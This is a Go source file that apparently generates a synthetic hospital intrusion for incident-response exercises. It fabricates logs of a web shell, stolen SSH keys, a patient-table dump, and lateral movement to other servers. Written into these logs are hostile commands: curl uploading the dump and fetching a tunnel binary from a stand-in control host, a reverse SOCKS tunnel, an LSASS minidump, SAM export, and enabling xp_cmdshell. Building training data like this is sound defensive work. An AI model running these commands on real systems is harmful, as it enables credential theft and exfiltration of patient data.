package exercise

import (
	"fmt"
	"strings"
	"time"

	"wardround/internal/event"
)

// intruder is what the story's attacker brings along: addresses, names, files. The seed chooses all of it.
type intruder struct {
	e        *estate
	scanner  host // that looks at the portal
	control  host // that the tunnel speaks to
	agent    string
	shell    string // name of the web shell
	tunnel   string // path of the tunnel on the portal
	user     string // account made on the database server of the portal
	service  string // and its program, on the application server
	program  string
	second   string // service on the laboratory's server
	payload  string // folder of the payload
	suffix   string // of encrypted files
	mailto   string
	database *account // the stolen administrator of databases
	desktop  *process // the shell of his desktop on the e-Hospital database server
}

// intrusion plans the story: the portal's web shell, its database by a stolen key, the application server by a stolen
// service account, the e-Hospital database, the laboratory's; files of the file server are encrypted from afar.
func (e *estate) intrusion() {
	d := e.dice("intruder")
	x := &intruder{e: e, agent: pick(d, []string{"python-requests/2.28.1", "curl/7.85.0", "Mozilla/5.0 (Windows NT 10.0; rv:102.0) Gecko/20100101 Firefox/102.0"})}
	net := d.between(10, 240)
	x.scanner = host{"", fmt.Sprintf("198.18.%d.%d", net, d.between(2, 250))}
	x.control = host{"", fmt.Sprintf("198.18.%d.%d", net+d.between(1, 9), d.between(2, 250))}
	x.shell = fmt.Sprintf("%s_%d.php", pick(d, []string{"slip", "form", "report", "receipt"}), d.between(1000, 99999))
	x.tunnel = "/tmp/." + pick(d, []string{"font-unix", "dbus", "systemd-private", "X12-lock"}) + "/" + d.letters(6, lower)
	x.user = pick(d, []string{"pgmonitor", "sysbackup", "supportd", "nagiosd"})
	x.service, x.program = d.letters(4, mixed), d.letters(8, mixed)+".exe"
	x.second = pick(d, []string{"WinUpdSvc", "MgmtHelper", "RmtAgent", "SysHealth"})
	x.payload = `C:\ProgramData\` + pick(d, []string{"Intel", "HP", "Dell", "Realtek"})
	x.suffix = pick(d, []string{".bak9", ".locked", ".enc0"})
	x.mailto = d.letters(8, lower) + "@mail.example"
	x.database = e.services["dba.menon"]
	e.networks = []network{
		{fmt.Sprintf("198.18.%d.0", net), fmt.Sprintf("198.18.%d.255", net), "NL", "AS64501", "Exercise Virtual Servers"},
		{fmt.Sprintf("198.18.%d.0", net+1), fmt.Sprintf("198.18.%d.255", net+9), "HK", "AS64502", "Exercise Hosting Limited"},
		{"198.19.0.0", "198.19.199.255", "IN", "AS64503", "Exercise Broadband"},
		{"198.19.200.0", "198.19.255.255", "US", "AS64504", "Exercise Internet Survey"},
	}
	first := d.within(e.at(-2, 1, 0), 2*time.Hour)
	key := d.within(first.Add(70*time.Minute), time.Hour)
	remote := d.within(e.at(-1, 1, 10), 80*time.Minute)
	desk := d.within(e.at(-1, 22, 40), 40*time.Minute)
	second := d.within(e.at(0, 0, 20), 50*time.Minute)
	end := d.within(e.at(0, 5, 40), 50*time.Minute)
	x.desktop = &process{image: `C:\Windows\explorer.exe`, command: `C:\Windows\Explorer.EXE`, pid: d.pid(), at: desk.Add(6*time.Minute + 3*time.Second), folder: `C:\Windows\system32\`,
		session: e.by["EHOSP-DB1"].session(desk.Add(6*time.Minute), x.database, e.by["EHOSP-APP1"].host(), 10)}
	x.entersPortal(first)
	x.takesKey(key)
	x.readsCredentials(remote)
	x.opensShell(remote.Add(47 * time.Minute))
	x.takesDesktop(desk)
	x.reachesLab(second)
	x.encrypts(end)
	x.encryptsLab(end.Add(6 * time.Minute))
	x.encryptsShares(end.Add(11 * time.Minute))
	e.noticed(end)
}

// entersPortal: somebody looks for weak pages, uploads a PHP file as an appointment's attachment, runs commands with it,
// and leaves a tunnel.
func (x *intruder) entersPortal(at event.Time) {
	s := x.e.by["PORTAL"]
	x.e.reached(s, at.Add(9*time.Minute), x.scanner, nil, "", "web shell")
	shell := "/appointment/uploads/" + x.shell
	s.extra = append(s.extra,
		file{"var/www/portal" + shell, harmless("a web shell stood here: it ran what its parameter c held"), at.Add(9 * time.Minute)},
		file{strings.TrimPrefix(x.tunnel, "/"), harmless("a tunnel stood here"), at.Add(25 * time.Minute)})
	x.e.do("web shell", func(d *dice) {
		look := at
		for range d.between(50, 90) {
			uri := "/" + pick(d, []string{"admin", "upload", "backup", "test", "old", "api", "appointment", "uploads", "config", "files"}) + "/" + d.letters(d.between(3, 8), lower) + pick(d, []string{".php", "/", ".zip", ".bak", ""})
			s.request(look, x.scanner.address, "GET", uri, 404, 162, "-", x.agent)
			look = d.within(look, 9*time.Second)
		}
		up := at.Add(9 * time.Minute)
		s.request(up.Add(-70*time.Second), x.scanner.address, "GET", "/appointment/book.php", 200, 8211, "-", x.agent)
		s.request(up, x.scanner.address, "POST", "/appointment/upload.php", 200, 64, "-", x.agent)
		s.request(up.Add(8*time.Second), x.scanner.address, "GET", shell, 200, 0, "-", x.agent)
		s.complains(up.Add(8*time.Second), "error", `*%d FastCGI sent in stderr: "PHP message: PHP Notice:  Undefined index: c in /var/www/portal%s on line 1" while reading response header from upstream, client: %s, server: appointments.exhosp.example, request: "GET %s HTTP/1.1", upstream: "fastcgi://unix:/run/php/php7.4-fpm.sock:", host: "appointments.exhosp.example"`,
			d.between(1000, 90000), shell, x.scanner.address, shell)
		run := up.Add(40 * time.Second)
		for _, c := range x.webCommands() {
			s.request(run, x.scanner.address, "POST", shell, 200, d.between(60, 4200), "-", x.agent)
			s.shell(d, run.Add(80*time.Millisecond), c.line, c.then...)
			run = run.Add(d.about(75 * time.Second))
		}
		s.audits(d, run, command{exe: x.tunnel, args: []string{x.tunnel, "client", x.control.address + ":443", "R:socks"}, folder: "/", uid: uidWeb, auid: -1, ppid: 1, tty: "(none)"})
	}, s)
}

type webCommand struct {
	line string
	then []command
}

// webCommands are what the web shell is told to run.
func (x *intruder) webCommands() []webCommand {
	folder := x.tunnel[:strings.LastIndexByte(x.tunnel, '/')]
	return []webCommand{
		{"id", []command{program("/usr/bin/id")}},
		{"uname -a", []command{program("/usr/bin/uname", "-a")}},
		{"cat /etc/passwd", []command{program("/usr/bin/cat", "/etc/passwd")}},
		{"cat ../config/database.php", []command{program("/usr/bin/cat", "../config/database.php")}},
		{"ls -la /home/deploy/.ssh", []command{program("/usr/bin/ls", "-la", "/home/deploy/.ssh")}},
		{"cat /home/deploy/.ssh/id_rsa", []command{program("/usr/bin/cat", "/home/deploy/.ssh/id_rsa")}},
		{"mkdir " + folder, []command{program("/usr/bin/mkdir", folder)}},
		{"curl -s -o " + x.tunnel + " http://" + x.control.address + "/t", []command{program("/usr/bin/curl", "-s", "-o", x.tunnel, "http://"+x.control.address+"/t")}},
		{"chmod 755 " + x.tunnel, []command{program("/usr/bin/chmod", "755", x.tunnel)}},
		{"nohup " + x.tunnel + " client " + x.control.address + ":443 R:socks &", nil},
	}
}

// takesKey: with the key of the account that deploys the site, the portal's database server is entered; an account is
// made there, patients are copied out.
func (x *intruder) takesKey(at event.Time) {
	s, portal := x.e.by["PG1"], x.e.by["PORTAL"]
	x.e.reached(s, at, portal.host(), portal, "deploy", "ssh")
	back := x.e.at(-1, 0, 12).Add(at.Sub(x.e.at(-2, 2, 0)) / 5)
	x.e.truth.hops = append(x.e.truth.hops, hop{portal.name, s.name, back, "ssh"})
	x.e.do("stolen key", func(d *dice) {
		portal.shell(d, at.Add(-2*time.Second), "ssh -i /tmp/k -o StrictHostKeyChecking=no deploy@"+s.address,
			program("/usr/bin/ssh", "-i", "/tmp/k", "-o", "StrictHostKeyChecking=no", "deploy@"+s.address))
		l := s.ssh(d, at, "deploy", 1001, portal.host(), "publickey")
		s.sudo(at.Add(90*time.Second), l, "/home/deploy", "/bin/bash")
		s.sudo(at.Add(3*time.Minute), l, "/home/deploy", "/usr/bin/cat /etc/ehosp/sync.conf")
		s.addsUser(at.Add(6*time.Minute), x.user, 1007)
		pid := d.between(2000, 30000)
		s.postgres(at.Add(10*time.Minute), pid, "[unknown]@[unknown]", "LOG:  connection received: host=[local]")
		s.postgres(at.Add(10*time.Minute+5*time.Millisecond), pid, "postgres@appointments", "LOG:  connection authorized: user=postgres database=appointments application_name=psql")
		s.postgres(at.Add(14*time.Minute), pid, "postgres@appointments", "LOG:  duration: %d.%03d ms  statement: COPY (SELECT * FROM patients) TO PROGRAM 'gzip > /var/tmp/.p.gz'", d.between(60_000, 140_000), d.IntN(1000))
		s.sshEnds(at.Add(31*time.Minute), l)
	}, s, portal)
	x.e.do("second visit", func(d *dice) {
		l := s.ssh(d, back, x.user, 1007, portal.host(), "password")
		s.sudo(back.Add(time.Minute), l, "/home/"+x.user, "/usr/bin/curl -s -T /var/tmp/.p.gz http://"+x.control.address+"/u")
		s.sudo(back.Add(9*time.Minute), l, "/home/"+x.user, "/usr/bin/rm -f /var/tmp/.p.gz")
		s.sshEnds(back.Add(11*time.Minute), l)
	}, s)
}

// readsCredentials: through the tunnel, with the service account whose password lay on the database server, a service is
// installed on the application server; its shell looks around and writes out the memory of LSASS.
func (x *intruder) readsCredentials(at event.Time) {
	s, portal, who := x.e.by["EHOSP-APP1"], x.e.by["PORTAL"], x.e.services["svc_ehosp"]
	x.e.reached(s, at, portal.host(), portal, x.e.domain.name+`\`+who.name, "remote service")
	s.truth.flags = append(s.truth.flags, "credentials exposed")
	x.e.do("remote service", func(d *dice) {
		in := s.ntlm(d, at, who, portal.host(), "")
		service := s.remoteService(d, at.Add(time.Second), in, x.service, x.program, remcomPipes(d))
		cmd := `C:\Windows\System32\cmd.exe`
		run := at.Add(25 * time.Second)
		for _, c := range []struct{ image, command string }{
			{`whoami.exe`, `whoami`}, {`nltest.exe`, `nltest /dclist:` + x.e.domain.dns}, {`net.exe`, `net  group "Domain Admins" /domain`},
			{`quser.exe`, `quser`}, {`tasklist.exe`, `tasklist  /fi "imagename eq lsass.exe"`},
			{`rundll32.exe`, fmt.Sprintf(`rundll32.exe  C:\windows\System32\comsvcs.dll, MiniDump %d C:\Windows\Temp\%s.dmp full`, s.pid("lsass"), d.letters(5, lower))},
			{`reg.exe`, `reg  save hklm\sam C:\Windows\Temp\` + d.letters(4, lower)},
		} {
			shell := s.start(d, run, service, nil, cmd, `C:\Windows\system32\cmd.exe /Q /c `+c.command)
			s.start(d, run.Add(30*time.Millisecond), shell, nil, `C:\Windows\System32\`+c.image, c.command)
			run = run.Add(d.about(50 * time.Second))
		}
		s.runs(run.Add(20*time.Second), x.service, x.service, false)
		s.logoff(run.Add(21*time.Second), in)
	}, s, x.e.by["DC1"])
}

// opensShell: from the application server, with the account it uses itself, SQL Server is told to run commands.
func (x *intruder) opensShell(at event.Time) {
	s, app, who := x.e.by["EHOSP-DB1"], x.e.by["EHOSP-APP1"], x.e.services["svc_ehosp"]
	account := x.e.domain.name + `\` + who.name
	x.e.reached(s, at, app.host(), app, account, "database")
	x.e.do("commands of the database", func(d *dice) {
		sqlcmd := `C:\Program Files\Microsoft SQL Server\Client SDK\ODBC\130\Tools\Binn\SQLCMD.EXE`
		app.start(d, at.Add(-time.Second), app.standing("services"), nil, sqlcmd, `sqlcmd  -S `+s.name+` -E -Q "EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE"`)
		s.sqlLogon(at, account, app.address)
		s.sqlSets(at.Add(50*time.Millisecond), "show advanced options", 0, 1)
		s.sqlSets(at.Add(90*time.Millisecond), "xp_cmdshell", 0, 1)
		run := at.Add(30 * time.Second)
		for _, c := range []struct{ line, image string }{
			{"whoami", `C:\Windows\System32\whoami.exe`}, {"ipconfig /all", `C:\Windows\System32\ipconfig.exe`},
			{"net localgroup administrators " + x.e.domain.name + `\` + x.database.name + " /add", `C:\Windows\System32\net.exe`},
		} {
			shell := s.cmdshell(d, run, account, app.address, c.line)
			p := s.start(d, run.Add(70*time.Millisecond), shell, nil, c.image, c.line)
			s.ends(run.Add(300*time.Millisecond), p)
			run = run.Add(d.about(40 * time.Second))
		}
		s.log(run, "4732", s.self().with(fields{"MemberSid": x.database.sid, "TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544"}))
	}, s, app)
}

// harmless is the content of what would be a program: text that says so.
func harmless(what string) []byte {
	return []byte(event.ExerciseMark + "\n" + what + "\n")
}
